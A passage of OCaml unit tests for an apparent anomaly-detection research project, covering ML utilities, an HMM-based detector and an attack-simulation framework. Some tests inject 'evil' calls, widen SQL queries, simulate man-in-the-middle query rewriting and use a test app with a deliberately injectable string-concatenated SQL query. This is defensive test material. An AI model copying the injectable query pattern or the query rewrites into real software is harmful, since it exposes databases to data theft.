  QCheck2.Test.make ~name:"mul_vec agrees with mul" ~count:100 matrix_gen (fun m ->
      let _, c = Matrix.dims m in
      let v = Array.init c (fun i -> float_of_int i +. 0.5) in
      let as_matrix = Matrix.init c 1 (fun i _ -> v.(i)) in
      let direct = Matrix.mul_vec m v in
      let via_mul = Matrix.col (Matrix.mul m as_matrix) 0 in
      Array.for_all2 (fun a b -> Float.abs (a -. b) < 1e-9) direct via_mul)

(* --- stats ------------------------------------------------------------- *)

let test_stats_basic () =
  let xs = [| 1.0; 2.0; 3.0; 4.0 |] in
  check_float "mean" 2.5 (Stats.mean xs);
  check_float "variance" 1.25 (Stats.variance xs);
  Alcotest.(check (pair (float 1e-9) (float 1e-9))) "min max" (1.0, 4.0) (Stats.min_max xs)

let test_stats_quantile () =
  let xs = [| 4.0; 1.0; 3.0; 2.0 |] in
  check_float "median" 2.5 (Stats.quantile xs 0.5);
  check_float "min" 1.0 (Stats.quantile xs 0.0);
  check_float "max" 4.0 (Stats.quantile xs 1.0)

let test_stats_logsumexp () =
  let xs = [| log 1.0; log 2.0; log 3.0 |] in
  check_float_loose "logsumexp" (log 6.0) (Stats.logsumexp xs);
  check_float "empty" neg_infinity (Stats.logsumexp [||]);
  check_float_loose "large values do not overflow" (1000.0 +. log 2.0)
    (Stats.logsumexp [| 1000.0; 1000.0 |])

let test_stats_argminmax () =
  Alcotest.(check int) "argmax" 2 (Stats.argmax [| 1.0; 0.0; 5.0; 5.0 |]);
  Alcotest.(check int) "argmin" 1 (Stats.argmin [| 1.0; 0.0; 5.0 |])

(* --- pca --------------------------------------------------------------- *)

let test_pca_jacobi_known () =
  let m = Matrix.of_arrays [| [| 2.0; 1.0 |]; [| 1.0; 2.0 |] |] in
  let values, vectors = Pca.jacobi_eigen m in
  check_float_loose "largest eigenvalue" 3.0 values.(0);
  check_float_loose "second eigenvalue" 1.0 values.(1);
  let v0 = Matrix.row vectors 0 in
  let mv = Matrix.mul_vec m v0 in
  Array.iteri
    (fun i x -> check_float_loose (Printf.sprintf "Mv = 3v [%d]" i) (3.0 *. v0.(i)) x)
    mv

let test_pca_recovers_principal_axis () =
  let rng = Rng.create 21 in
  let rows =
    Array.init 200 (fun _ ->
        let t = Rng.gaussian rng *. 10.0 in
        let noise = Rng.gaussian rng *. 0.1 in
        [| t +. noise; t -. noise |])
  in
  let model = Pca.fit ~variance_kept:0.9 (Matrix.of_arrays rows) in
  let axis = Matrix.row model.Pca.components 0 in
  let alignment = Float.abs ((axis.(0) +. axis.(1)) /. sqrt 2.0) in
  Alcotest.(check bool) "first axis is the diagonal" true (alignment > 0.999);
  Alcotest.(check int) "one component kept" 1 (fst (Matrix.dims model.Pca.components))

let test_pca_transform_shape () =
  let rng = Rng.create 2 in
  let rows = Array.init 40 (fun _ -> Array.init 6 (fun _ -> Rng.float rng 1.0)) in
  let model, projected = Pca.fit_transform ~variance_kept:0.99 (Matrix.of_arrays rows) in
  let n, k = Matrix.dims projected in
  Alcotest.(check int) "rows preserved" 40 n;
  Alcotest.(check bool) "dimension reduced or equal" true (k <= 6);
  let ratios = Pca.explained_variance_ratio model in
  let total = Array.fold_left ( +. ) 0.0 ratios in
  Alcotest.(check bool) "ratios form a distribution" true (total <= 1.0 +. 1e-9 && total > 0.0)

let prop_jacobi_reconstructs =
  QCheck2.Test.make ~name:"jacobi: eigenvalues sum to the trace" ~count:50
    QCheck2.Gen.(array_size (pure 9) (float_range (-5.0) 5.0))
    (fun data ->
      let m = Matrix.init 3 3 (fun i j -> (data.((i * 3) + j) +. data.((j * 3) + i)) /. 2.0) in
      let values, _ = Pca.jacobi_eigen m in
      let trace = Matrix.get m 0 0 +. Matrix.get m 1 1 +. Matrix.get m 2 2 in
      Float.abs (Array.fold_left ( +. ) 0.0 values -. trace) < 1e-6)

(* --- kmeans ------------------------------------------------------------ *)

let test_kmeans_separated_clusters () =
  let rng = Rng.create 33 in
  let cluster cx cy =
    Array.init 30 (fun _ -> [| cx +. Rng.float rng 0.5; cy +. Rng.float rng 0.5 |])
  in
  let data = Array.concat [ cluster 0.0 0.0; cluster 10.0 10.0; cluster (-10.0) 5.0 ] in
  let result = Kmeans.cluster ~rng ~k:3 (Matrix.of_arrays data) in
  let k, _ = Matrix.dims result.Kmeans.centroids in
  Alcotest.(check int) "three clusters survive" 3 k;
  let blob_label blob = result.Kmeans.assignment.(blob * 30) in
  for blob = 0 to 2 do
    for i = 0 to 29 do
      Alcotest.(check int)
        (Printf.sprintf "blob %d homogeneous" blob)
        (blob_label blob)
        result.Kmeans.assignment.((blob * 30) + i)
    done
  done

let test_kmeans_centroids_are_means () =
  let rng = Rng.create 4 in
  let data = Matrix.of_arrays [| [| 0.0 |]; [| 1.0 |]; [| 10.0 |]; [| 11.0 |] |] in
  let result = Kmeans.cluster ~rng ~k:2 data in
  let members = Kmeans.cluster_members result in
  Array.iteri
    (fun c idxs ->
      let mean =
        Array.fold_left (fun acc i -> acc +. Matrix.get data i 0) 0.0 idxs
        /. float_of_int (Array.length idxs)
      in
      check_float_loose
        (Printf.sprintf "centroid %d is the member mean" c)
        mean
        (Matrix.get result.Kmeans.centroids c 0))
    members

let test_kmeans_deterministic () =
  let data =
    Matrix.of_arrays
      (Array.init 20 (fun i -> [| float_of_int (i mod 5); float_of_int (i / 5) |]))
  in
  let r1 = Kmeans.cluster ~rng:(Rng.create 8) ~k:4 data in
  let r2 = Kmeans.cluster ~rng:(Rng.create 8) ~k:4 data in
  Alcotest.(check (array int)) "same seed, same clustering" r1.Kmeans.assignment
    r2.Kmeans.assignment

let prop_kmeans_assignment_dense =
  QCheck2.Test.make ~name:"kmeans: assignments cover a dense range" ~count:50
    QCheck2.Gen.(pair (int_range 1 8) (int_range 1 40))
    (fun (k, n) ->
      let rng = Rng.create (k + (n * 31)) in
      let data = Matrix.init n 2 (fun _ _ -> Rng.float rng 10.0) in
      let r = Kmeans.cluster ~rng ~k data in
      let k', _ = Matrix.dims r.Kmeans.centroids in
      let seen = Array.make k' false in
      Array.iter (fun c -> seen.(c) <- true) r.Kmeans.assignment;
      Array.for_all (fun b -> b) seen)

let () =
  Alcotest.run "mlkit"
    [
      ( "rng",
        [
          Alcotest.test_case "deterministic" `Quick test_rng_deterministic;
          Alcotest.test_case "bounds" `Quick test_rng_bounds;
          Alcotest.test_case "split independence" `Quick test_rng_split_independent;
          Alcotest.test_case "invalid arguments" `Quick test_rng_invalid;
          Alcotest.test_case "weighted choice" `Quick test_rng_weighted;
          Alcotest.test_case "shuffle is a permutation" `Quick test_rng_shuffle_permutation;
          Alcotest.test_case "gaussian moments" `Quick test_rng_gaussian_moments;
        ] );
      ( "matrix",
        [
          Alcotest.test_case "get/set/dims" `Quick test_matrix_basic;
          Alcotest.test_case "identity multiplication" `Quick test_matrix_identity_mul;
          Alcotest.test_case "known product" `Quick test_matrix_mul_known;
          Alcotest.test_case "transpose" `Quick test_matrix_transpose;
          Alcotest.test_case "normalize rows" `Quick test_matrix_normalize_rows;
          Alcotest.test_case "row/col sums" `Quick test_matrix_sums;
          Alcotest.test_case "errors" `Quick test_matrix_errors;
          QCheck_alcotest.to_alcotest prop_transpose_involution;
          QCheck_alcotest.to_alcotest prop_mul_vec_matches_mul;
        ] );
      ( "stats",
        [
          Alcotest.test_case "mean/variance/minmax" `Quick test_stats_basic;
          Alcotest.test_case "quantile" `Quick test_stats_quantile;
          Alcotest.test_case "logsumexp" `Quick test_stats_logsumexp;
          Alcotest.test_case "argmax/argmin" `Quick test_stats_argminmax;
        ] );
      ( "pca",
        [
          Alcotest.test_case "jacobi on a known matrix" `Quick test_pca_jacobi_known;
          Alcotest.test_case "recovers the principal axis" `Quick test_pca_recovers_principal_axis;
          Alcotest.test_case "transform shape and ratios" `Quick test_pca_transform_shape;
          QCheck_alcotest.to_alcotest prop_jacobi_reconstructs;
        ] );
      ( "kmeans",
        [
          Alcotest.test_case "separated clusters recovered" `Quick test_kmeans_separated_clusters;
          Alcotest.test_case "centroids are member means" `Quick test_kmeans_centroids_are_means;
          Alcotest.test_case "deterministic under a seed" `Quick test_kmeans_deterministic;
          QCheck_alcotest.to_alcotest prop_kmeans_assignment_dense;
        ] );
    ]

(* Tests for the core AD-PROM library: windows, thresholds, evaluation
   metrics, the reduction pipeline, profile training and the detection
   engine flags. *)

module Symbol = Analysis.Symbol
module Window = Adprom.Window
module Threshold = Adprom.Threshold
module Evaluation = Adprom.Evaluation
module Reduction = Adprom.Reduction
module Profile = Adprom.Profile
module Detector = Adprom.Detector
module Pipeline = Adprom.Pipeline

let event name caller =
  { Runtime.Collector.symbol = Symbol.lib name; caller; block = -1 }

let trace_of names = Array.of_list (List.map (fun n -> event n "main") names)

(* --- windows --------------------------------------------------------------- *)

let test_window_sliding () =
  let trace = trace_of [ "a"; "b"; "c"; "d"; "e" ] in
  let ws = Window.of_trace ~window:3 trace in
  Alcotest.(check int) "len - n + 1 windows" 3 (List.length ws);
  let first = List.hd ws in
  Alcotest.(check int) "window length" 3 (Array.length first.Window.obs)

let test_window_short_trace () =
  let ws = Window.of_trace ~window:15 (trace_of [ "a"; "b" ]) in
  Alcotest.(check int) "one short window" 1 (List.length ws);
  Alcotest.(check int) "short window keeps the whole trace" 2
    (Array.length (List.hd ws).Window.obs);
  Alcotest.(check int) "empty trace yields nothing" 0
    (List.length (Window.of_trace ~window:15 [||]))

let test_window_dedup () =
  let w = List.hd (Window.of_trace ~window:2 (trace_of [ "a"; "b" ])) in
  let deduped = Window.dedup [ w; w; w ] in
  Alcotest.(check int) "one unique window" 1 (List.length deduped);
  Alcotest.(check (float 0.0)) "weight is the multiplicity" 3.0 (snd (List.hd deduped))

let test_window_labels () =
  let labeled =
    [|
      { Runtime.Collector.symbol = Symbol.lib ~label:6 "printf"; caller = "f"; block = 6 };
      event "puts" "f";
    |]
  in
  let w = List.hd (Window.of_trace ~window:5 labeled) in
  Alcotest.(check bool) "labeled output detected" true (Window.contains_labeled_output w);
  let stripped = Window.strip_labels w in
  Alcotest.(check bool) "stripping removes the label" false
    (Window.contains_labeled_output stripped)

let test_window_encode () =
  let w = List.hd (Window.of_trace ~window:3 (trace_of [ "a"; "b"; "a" ])) in
  let index s = if Symbol.name s = "a" then Some 0 else if Symbol.name s = "b" then Some 1 else None in
  (match Window.encode ~index w with
  | Some codes -> Alcotest.(check (array int)) "encoded" [| 0; 1; 0 |] codes
  | None -> Alcotest.fail "should encode");
  let w2 = List.hd (Window.of_trace ~window:3 (trace_of [ "a"; "zz"; "a" ])) in
  Alcotest.(check bool) "unknown symbol fails encoding" true (Window.encode ~index w2 = None)

(* --- threshold -------------------------------------------------------------- *)

let test_threshold_strategies () =
  let scores = [| -1.0; -2.0; -0.5; neg_infinity |] in
  Alcotest.(check (float 1e-9)) "fixed" (-3.0) (Threshold.select (Threshold.Fixed (-3.0)) scores);
  Alcotest.(check (float 1e-9)) "min margin ignores -inf" (-2.5)
    (Threshold.select (Threshold.Min_margin 0.5) scores);
  Alcotest.(check (float 1e-9)) "quantile 0 is the min" (-2.0)
    (Threshold.select (Threshold.Quantile 0.0) scores);
  Alcotest.(check (float 1e-9)) "no finite scores falls back" (-1e9)
    (Threshold.select (Threshold.Min_margin 1.0) [| neg_infinity |])

let test_threshold_validated () =
  (* anomalies score around -5, normals around -1: the candidate between
     the two populations wins. *)
  let normal = [| -1.0; -0.8; -1.2; -0.9 |] and anomalous = [| -5.0; -4.5; -6.0 |] in
  Alcotest.(check (float 1e-9)) "separating candidate chosen" (-3.0)
    (Threshold.select_validated ~candidates:[ -0.5; -3.0; -10.0 ] ~normal ~anomalous);
  (* A candidate above all normals flags everything: worse accuracy. *)
  Alcotest.(check (float 1e-9)) "ties break toward fewer FPs" (-3.0)
    (Threshold.select_validated ~candidates:[ -2.0; -3.0 ] ~normal ~anomalous);
  Alcotest.check_raises "no candidates"
    (Invalid_argument "Threshold.select_validated: no candidates") (fun () ->
      ignore (Threshold.select_validated ~candidates:[] ~normal ~anomalous))

let test_threshold_adaptive () =
  let t = Threshold.adaptive ~current:(-2.0) ~recent_fp_rate:0.2 ~target_fp_rate:0.01 in
  Alcotest.(check bool) "too many FPs lowers the threshold" true (t < -2.0);
  let t2 = Threshold.adaptive ~current:(-2.0) ~recent_fp_rate:0.0 ~target_fp_rate:0.01 in
  Alcotest.(check bool) "quiet period raises it slightly" true (t2 > -2.0)

(* --- evaluation -------------------------------------------------------------- *)

let test_evaluation_metrics () =
  let c = { Evaluation.tp = 90; tn = 900; fp = 10; fn = 10 } in
  Alcotest.(check (float 1e-9)) "fp rate" (10.0 /. 910.0) (Evaluation.fp_rate c);
  Alcotest.(check (float 1e-9)) "fn rate" 0.1 (Evaluation.fn_rate c);
  Alcotest.(check (float 1e-9)) "precision" 0.9 (Evaluation.precision c);
  Alcotest.(check (float 1e-9)) "recall" 0.9 (Evaluation.recall c);
  Alcotest.(check (float 1e-4)) "accuracy" 0.9802 (Evaluation.accuracy c);
  Alcotest.(check int) "total" 1010 (Evaluation.total c)

let test_evaluation_observe_merge () =
  let c =
    Evaluation.empty
    |> fun c -> Evaluation.observe c ~anomalous:true ~flagged:true
    |> fun c -> Evaluation.observe c ~anomalous:false ~flagged:true
    |> fun c -> Evaluation.observe c ~anomalous:false ~flagged:false
    |> fun c -> Evaluation.observe c ~anomalous:true ~flagged:false
  in
  Alcotest.(check bool) "all four cells" true
    (c.Evaluation.tp = 1 && c.Evaluation.fp = 1 && c.Evaluation.tn = 1 && c.Evaluation.fn = 1);
  let m = Evaluation.merge c c in
  Alcotest.(check int) "merge doubles" 8 (Evaluation.total m)

let test_evaluation_curve_monotone () =
  let normal = [| -1.0; -1.5; -0.5 |] and anomalous = [| -5.0; -4.0; -0.8 |] in
  let thresholds = Evaluation.sweep_thresholds ~normal_scores:normal ~anomalous_scores:anomalous 50 in
  let curve = Evaluation.curve ~normal_scores:normal ~anomalous_scores:anomalous ~thresholds in
  let rec check_monotone = function
    | (_, fp1, fn1) :: ((_, fp2, fn2) :: _ as rest) ->
        Alcotest.(check bool) "fp non-decreasing in threshold" true (fp2 >= fp1 -. 1e-12);
        Alcotest.(check bool) "fn non-increasing in threshold" true (fn2 <= fn1 +. 1e-12);
        check_monotone rest
    | _ -> ()
  in
  check_monotone curve

let test_kfold () =
  let xs = List.init 10 (fun i -> i) in
  let folds = Evaluation.kfold ~k:3 xs in
  Alcotest.(check int) "three folds" 3 (List.length folds);
  List.iter
    (fun (train, valid) ->
      Alcotest.(check int) "partition" 10 (List.length train + List.length valid);
      List.iter (fun v -> Alcotest.(check bool) "disjoint" false (List.mem v train)) valid)
    folds;
  let all_valid = List.concat_map snd folds in
  Alcotest.(check (list int)) "validation folds cover everything" xs (List.sort compare all_valid)

(* --- reduction ---------------------------------------------------------------- *)

let fig_pctm () =
  let src =
    {|
      fun main() {
        let r = pq_exec(conn, "q");
        printf("%s", pq_getvalue(r, 0, 0));
        puts("done");
      }
    |}
  in
  (Analysis.Analyzer.analyze (Applang.Parser.parse_program src)).Analysis.Analyzer.pctm

let test_reduction_ctv_shape () =
  let pctm = fig_pctm () in
  let sites, ctvs = Reduction.ctv_matrix pctm in
  let n = Array.length sites in
  let rows, cols = Mlkit.Matrix.dims ctvs in
  Alcotest.(check int) "one row per site" n rows;
  Alcotest.(check int) "dimension 2(n+1)" (2 * (n + 1)) cols

let test_reduction_identity_when_small () =
  let pctm = fig_pctm () in
  let rng = Mlkit.Rng.create 3 in
  let c = Reduction.cluster ~rng ~max_states:100 ~cluster_fraction:0.3 ~pca_variance:0.95 pctm in
  Alcotest.(check bool) "no reduction below the threshold" false c.Reduction.reduced;
  Alcotest.(check int) "one state per site" (Array.length c.Reduction.sites) c.Reduction.states

let test_reduction_clusters_when_large () =
  let pctm = fig_pctm () in
  let rng = Mlkit.Rng.create 3 in
  let c = Reduction.cluster ~rng ~max_states:2 ~cluster_fraction:0.5 ~pca_variance:0.95 pctm in
  Alcotest.(check bool) "k-means ran" true c.Reduction.reduced;
  Alcotest.(check bool) "fewer states than sites" true
    (c.Reduction.states < Array.length c.Reduction.sites)

let test_reduction_init_hmm_valid () =
  let pctm = fig_pctm () in
  let rng = Mlkit.Rng.create 3 in
  let c = Reduction.cluster ~rng ~max_states:100 ~cluster_fraction:0.3 ~pca_variance:0.95 pctm in
  let alphabet =
    Array.of_list (List.sort_uniq Symbol.compare (List.map Symbol.observable (Analysis.Ctm.calls pctm)))
  in
  let model = Reduction.init_hmm pctm c ~alphabet in
  Alcotest.(check bool) "initialized model is stochastic" true
    (match Hmm.validate model with Ok () -> true | Error _ -> false)

(* --- profile + detector (end to end on a small app) ---------------------------- *)

let small_app =
  {
    Pipeline.name = "test-app";
    source =
      {|
        fun main() {
          let conn = db_connect("pg");
          let id = scanf();
          let q = strcat(strcat("SELECT name FROM t WHERE id = '", id), "'");
          let r = pq_exec(conn, q);
          let n = pq_ntuples(r);
          for (let i = 0; i < n; i = i + 1) {
            printf("%s\n", pq_getvalue(r, i, 0));
          }
          puts("bye");
        }
      |};
    dbms = "PostgreSQL";
    setup_db =
      (fun e ->
        ignore (Sqldb.Engine.exec e "CREATE TABLE t (id, name)");
        for i = 0 to 9 do
          ignore
            (Sqldb.Engine.exec e (Printf.sprintf "INSERT INTO t VALUES (%d, 'n%d')" i i))
        done);
    test_cases =
      List.init 10 (fun i -> Runtime.Testcase.make ~input:[ string_of_int i ] (Printf.sprintf "c%d" i));
  }

let trained = lazy (
  let ds = Pipeline.collect small_app in
  (ds, Pipeline.train ds))

let test_profile_training () =
  let _, profile = Lazy.force trained in
  Alcotest.(check bool) "finite threshold" true (Float.is_finite profile.Profile.threshold);
  Alcotest.(check bool) "model valid" true
    (match Hmm.validate profile.Profile.model with Ok () -> true | Error _ -> false);
  Alcotest.(check bool) "ran at least one round" true (profile.Profile.rounds_run >= 1);
  Alcotest.(check bool) "profile size estimate positive" true (Profile.size_estimate profile > 0)

let test_profile_scores_normals_high () =
  let ds, profile = Lazy.force trained in
  List.iter
    (fun w ->
      let s = Profile.score profile w in
      Alcotest.(check bool) "normal window above threshold" true
        (s >= profile.Profile.threshold))
    ds.Pipeline.windows

let test_detector_flags () =
  let ds, profile = Lazy.force trained in
  let w = List.hd ds.Pipeline.windows in
  (* Normal *)
  Alcotest.(check bool) "normal flag" true
    ((Detector.classify profile w).Detector.flag = Detector.Normal);
  (* Unknown call: anomalous, and with a label: data leak *)
  let evil = { Window.obs = Array.copy w.Window.obs; callers = Array.copy w.Window.callers } in
  evil.Window.obs.(0) <- Symbol.lib "evil_call";
  let v = Detector.classify profile evil in
  Alcotest.(check bool) "unknown symbol flagged" true (v.Detector.flag <> Detector.Normal);
  Alcotest.(check bool) "unknown symbol reported" true v.Detector.unknown_symbol;
  (* Out of context: known call, never-seen caller *)
  let ooc = { Window.obs = Array.copy w.Window.obs; callers = Array.copy w.Window.callers } in
  ooc.Window.callers.(0) <- "never_seen_function";
  let v = Detector.classify profile ooc in
  Alcotest.(check bool) "out-of-context pair reported" true (v.Detector.unknown_pair <> None)

let test_detector_explain () =
  let ds, profile = Lazy.force trained in
  let w = List.hd ds.Pipeline.windows in
  let evil = { Window.obs = Array.copy w.Window.obs; callers = Array.copy w.Window.callers } in
  let pos = Array.length evil.Window.obs - 1 in
  evil.Window.obs.(pos) <- Symbol.lib "evil_call";
  (match Detector.explain ~top:1 profile evil with
  | [ s ] ->
      Alcotest.(check int) "unknown symbol ranked first" pos s.Detector.position;
      Alcotest.(check bool) "infinite surprisal" true (s.Detector.surprisal = infinity)
  | _ -> Alcotest.fail "expected one surprise");
  (* On a normal window, surprisals are finite and sorted. *)
  match Detector.explain ~top:3 profile w with
  | (a :: b :: _ : Detector.surprise list) ->
      Alcotest.(check bool) "sorted descending" true (a.Detector.surprisal >= b.Detector.surprisal);
      Alcotest.(check bool) "finite on normal data" true (Float.is_finite a.Detector.surprisal)
  | _ -> Alcotest.fail "expected several surprises"

let test_detector_worst_ordering () =
  let mk flag = { Detector.flag; score = 0.0; unknown_symbol = false; unknown_pair = None } in
  Alcotest.(check bool) "DL dominates" true
    (Detector.worst [ mk Detector.Anomalous; mk Detector.Data_leak; mk Detector.Normal ]
    = Detector.Data_leak);
  Alcotest.(check bool) "empty list is normal" true (Detector.worst [] = Detector.Normal)

let test_pipeline_presets () =
  Alcotest.(check bool) "cmarkov drops labels" false
    Pipeline.cmarkov_params.Profile.use_labels;
  Alcotest.(check bool) "cmarkov drops caller tracking" false
    Pipeline.cmarkov_params.Profile.track_callers;
  Alcotest.(check bool) "rand-hmm randomizes init" true
    (Pipeline.rand_hmm_params.Profile.init = Profile.Init_random);
  Alcotest.(check bool) "adprom uses the forecast" true
    (Pipeline.adprom_params.Profile.init = Profile.Init_pctm)

let test_report_table () =
  let s = Adprom.Report.table ~title:"T" ~header:[ "a"; "b" ] [ [ "1"; "2" ]; [ "333" ] ] in
  Alcotest.(check bool) "title present" true (String.length s > 0 && s.[0] = 'T');
  Alcotest.(check string) "percent cell" "12.30%" (Adprom.Report.percent_cell 0.123);
  Alcotest.(check string) "-inf cell" "-inf" (Adprom.Report.float_cell neg_infinity)

let () =
  Alcotest.run "adprom"
    [
      ( "window",
        [
          Alcotest.test_case "sliding" `Quick test_window_sliding;
          Alcotest.test_case "short traces" `Quick test_window_short_trace;
          Alcotest.test_case "dedup" `Quick test_window_dedup;
          Alcotest.test_case "labels" `Quick test_window_labels;
          Alcotest.test_case "encode" `Quick test_window_encode;
        ] );
      ( "threshold",
        [
          Alcotest.test_case "strategies" `Quick test_threshold_strategies;
          Alcotest.test_case "validated candidate set" `Quick test_threshold_validated;
          Alcotest.test_case "adaptive" `Quick test_threshold_adaptive;
        ] );
      ( "evaluation",
        [
          Alcotest.test_case "metrics" `Quick test_evaluation_metrics;
          Alcotest.test_case "observe and merge" `Quick test_evaluation_observe_merge;
          Alcotest.test_case "curve monotone" `Quick test_evaluation_curve_monotone;
          Alcotest.test_case "kfold" `Quick test_kfold;
        ] );
      ( "reduction",
        [
          Alcotest.test_case "ctv shape" `Quick test_reduction_ctv_shape;
          Alcotest.test_case "identity when small" `Quick test_reduction_identity_when_small;
          Alcotest.test_case "clusters when large" `Quick test_reduction_clusters_when_large;
          Alcotest.test_case "initialized HMM is valid" `Quick test_reduction_init_hmm_valid;
        ] );
      ( "profile+detector",
        [
          Alcotest.test_case "training" `Quick test_profile_training;
          Alcotest.test_case "normals above threshold" `Quick test_profile_scores_normals_high;
          Alcotest.test_case "flags" `Quick test_detector_flags;
          Alcotest.test_case "explain ranks surprisals" `Quick test_detector_explain;
          Alcotest.test_case "worst ordering" `Quick test_detector_worst_ordering;
          Alcotest.test_case "pipeline presets" `Quick test_pipeline_presets;
          Alcotest.test_case "report formatting" `Quick test_report_table;
        ] );
    ]

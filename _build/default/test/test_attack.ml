(* Tests for the attack framework: AST mutation, scenario application,
   and the synthetic anomaly generators. *)

module Ast = Applang.Ast
module Parser = Applang.Parser
module Mutate = Attack.Mutate
module Scenario = Attack.Scenario
module Synthetic = Attack.Synthetic
module Symbol = Analysis.Symbol
module Window = Adprom.Window

let sample =
  {|
    fun main() {
      puts("one");
      if (x > 0) {
        puts("two");
      } else {
        puts("three");
      }
      helper(1);
    }
    fun helper(n) {
      printf("%d", n);
      printf("%d", n + 1);
    }
  |}

let program () = Parser.parse_program sample

let stmt src =
  match Parser.parse_program ("fun __s__() {" ^ src ^ "}") with
  | { Ast.funcs = [ f ] } -> f.Ast.body
  | _ -> assert false

(* --- mutate ----------------------------------------------------------------- *)

let test_insert_in_function () =
  let p = Mutate.insert_in_function (program ()) ~func:"main" ~at:1 (stmt "evil();") in
  Alcotest.(check int) "evil inserted" 1 (Mutate.count_calls p ~func:"main" ~callee:"evil");
  (match (Option.get (Ast.find_func p "main")).Ast.body with
  | _ :: Ast.Expr (Ast.Call ("evil", [])) :: _ -> ()
  | _ -> Alcotest.fail "inserted at position 1");
  (* clamping *)
  let p2 = Mutate.insert_in_function (program ()) ~func:"main" ~at:99 (stmt "evil();") in
  Alcotest.(check int) "clamped append" 1 (Mutate.count_calls p2 ~func:"main" ~callee:"evil")

let test_append_to_function () =
  let p = Mutate.append_to_function (program ()) ~func:"helper" (stmt "evil();") in
  match List.rev (Option.get (Ast.find_func p "helper")).Ast.body with
  | Ast.Expr (Ast.Call ("evil", [])) :: _ -> ()
  | _ -> Alcotest.fail "appended last"

let test_insert_in_branch () =
  let p = Mutate.insert_in_branch (program ()) ~func:"main" ~branch:`Else (stmt "evil();") in
  (match (Option.get (Ast.find_func p "main")).Ast.body with
  | [ _; Ast.If (_, _, else_); _ ] ->
      Alcotest.(check int) "else grew" 2 (List.length else_)
  | _ -> Alcotest.fail "if structure preserved");
  match Mutate.insert_in_branch (program ()) ~func:"helper" ~branch:`Then (stmt "x();") with
  | _ -> Alcotest.fail "no If in helper: must raise"
  | exception Not_found -> ()

let test_rewrite_call_args () =
  let p =
    Mutate.rewrite_call_args (program ()) ~func:"helper" ~callee:"printf" ~occurrence:1
      (fun _ -> [ Ast.Str "%s"; Ast.Var "secret" ])
  in
  (match (Option.get (Ast.find_func p "helper")).Ast.body with
  | [ _; Ast.Expr (Ast.Call ("printf", [ Ast.Str "%s"; Ast.Var "secret" ])) ] -> ()
  | _ -> Alcotest.fail "second printf rewritten");
  match
    Mutate.rewrite_call_args (program ()) ~func:"helper" ~callee:"printf" ~occurrence:5
      (fun args -> args)
  with
  | _ -> Alcotest.fail "occurrence out of range must raise"
  | exception Not_found -> ()

let test_rewrite_strings () =
  (* Fig. 1: widening selectivity by editing the embedded query. *)
  let src = {|fun main() { let r = pq_exec(c, "SELECT * FROM items WHERE id = 10"); }|} in
  let p =
    Mutate.rewrite_strings (Parser.parse_program src) ~func:"main" (fun s ->
        String.concat ">=" (String.split_on_char '=' s))
  in
  match (Option.get (Ast.find_func p "main")).Ast.body with
  | [ Ast.Let (_, Ast.Call ("pq_exec", [ _; Ast.Str q ])) ] ->
      Alcotest.(check string) "selectivity widened" "SELECT * FROM items WHERE id >= 10" q
  | _ -> Alcotest.fail "unexpected shape"

let test_unknown_function_raises () =
  match Mutate.insert_in_function (program ()) ~func:"ghost" ~at:0 (stmt "x();") with
  | _ -> Alcotest.fail "unknown function must raise"
  | exception Not_found -> ()

(* --- scenario ---------------------------------------------------------------- *)

let tiny_app =
  {
    Adprom.Pipeline.name = "tiny";
    source = "fun main() { puts(scanf()); }";
    dbms = "-";
    setup_db = (fun _ -> ());
    test_cases = [ Runtime.Testcase.make ~input:[ "hello" ] "t1" ];
  }

let test_scenario_source_change () =
  let scenario =
    {
      Scenario.id = "x";
      description = "append a probe";
      vector =
        Scenario.Source_change
          (fun p -> Mutate.append_to_function p ~func:"main" (stmt "lib_probe(1);"));
    }
  in
  let malicious, patches, _ = Scenario.apply scenario tiny_app in
  Alcotest.(check bool) "no patches for source change" true (patches = []);
  let p = Parser.parse_program malicious.Adprom.Pipeline.source in
  Alcotest.(check int) "probe present after pretty/parse round trip" 1
    (Mutate.count_calls p ~func:"main" ~callee:"lib_probe")

let test_scenario_run_traces () =
  let scenario =
    { Scenario.id = "input"; description = "poison";
      vector = Scenario.Malicious_input (fun tc -> { tc with Runtime.Testcase.input = [ "POISON" ] }) }
  in
  let traces = Scenario.run scenario tiny_app in
  Alcotest.(check int) "one trace per test case" 1 (List.length traces)

let test_scenario_mitm () =
  (* MITM rewrites raw SQL on the wire; prepared statements are immune. *)
  let app =
    {
      Adprom.Pipeline.name = "mitm-app";
      source =
        {|
          fun main() {
            let conn = db_connect("pg");
            let raw = pq_exec(conn, "SELECT name FROM t WHERE id = 1");
            printf("raw=%s
", pq_getvalue(raw, 0, 0));
            let stmt = pq_prepare(conn, "SELECT name FROM t WHERE id = ?");
            let safe = pq_exec_prepared(conn, stmt, 1);
            printf("safe=%d
", pq_ntuples(safe));
          }
        |};
      dbms = "-";
      setup_db =
        (fun e ->
          ignore (Sqldb.Engine.exec e "CREATE TABLE t (id, name)");
          ignore (Sqldb.Engine.exec e "INSERT INTO t VALUES (1, 'one'), (2, 'two')"));
      test_cases = [ Runtime.Testcase.make "t" ];
    }
  in
  let scenario =
    {
      Scenario.id = "mitm";
      description = "widen on the wire";
      vector = Scenario.Mitm (fun _sql -> "SELECT name FROM t");
    }
  in
  match Scenario.run scenario app with
  | [ (_, trace) ] ->
      (* The raw query now returns 2 rows... observable through ntuples
         of the raw result staying the query of the full table; the
         prepared one is untouched (1 row). Verify through the app's
         own behaviour by re-running with the rewriter directly. *)
      Alcotest.(check bool) "trace produced" true (Array.length trace > 0);
      let analysis = Adprom.Pipeline.analyze_app app in
      let _, out =
        Adprom.Pipeline.run_case
          ~query_rewriter:(fun _ -> "SELECT name FROM t")
          ~analysis app (List.hd app.Adprom.Pipeline.test_cases)
      in
      Alcotest.(check string) "raw query hijacked, prepared immune" "raw=one
safe=1
"
        out.Runtime.Interp.stdout
  | _ -> Alcotest.fail "expected one trace"

(* --- synthetic ---------------------------------------------------------------- *)

let base_window () =
  let events =
    Array.of_list
      (List.map
         (fun n -> { Runtime.Collector.symbol = Symbol.lib n; caller = "main"; block = -1 })
         [ "a"; "b"; "c"; "d"; "e"; "f"; "g"; "h"; "i"; "j" ])
  in
  List.hd (Window.of_trace ~window:10 events)

let legit = [| Symbol.lib "a"; Symbol.lib "b"; Symbol.lib "c" |]

let test_s1_replaces_tail () =
  let rng = Mlkit.Rng.create 1 in
  let w = base_window () in
  let w' = Synthetic.a_s1 ~rng ~legitimate:legit w in
  Alcotest.(check int) "length preserved" 10 (Array.length w'.Window.obs);
  (* first 5 untouched *)
  for i = 0 to 4 do
    Alcotest.(check bool) "prefix intact" true (Symbol.equal w.Window.obs.(i) w'.Window.obs.(i))
  done;
